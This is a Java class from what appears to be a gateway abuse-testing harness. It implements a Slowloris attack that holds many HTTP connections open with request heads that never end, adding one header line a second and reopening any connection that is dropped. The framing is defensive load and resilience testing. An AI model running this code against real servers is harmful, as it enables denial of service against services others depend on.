package gatehouse.abuse.attacks;

import gatehouse.abuse.Attack;
import gatehouse.abuse.Sockets;
import gatehouse.abuse.Target;
import gatehouse.abuse.Trickle;
import java.io.IOException;
import java.net.Socket;
import java.time.Duration;

/**
 * Slowloris: {@code connections} request heads that never end, each growing by one header line a
 * second; a connection the gateway closes is opened again. Volume: connections opened.
 */
public final class SlowlorisHeads implements Attack {
  private final int connections;

  public SlowlorisHeads(int connections) {
    this.connections = connections;
  }

  @Override
  public String name() {
    return "slowloris heads";
  }

  @Override
  public String unit() {
    return "connections";
  }

  @Override
  public long run(Target target, Duration duration) throws Exception {
    return Trickle.hold(connections, duration, slot -> Trickle.socket(head(target), line -> "X-Slow-" + line + ": " + line + "\r\n"));
  }

  private static Socket head(Target target) throws IOException {
    Socket s = Sockets.connect(target.port());
    Sockets.write(s, "GET " + Target.ATTACK + "slowloris HTTP/1.1\r\nHost: gw.test\r\n");
    return s;
  }
}
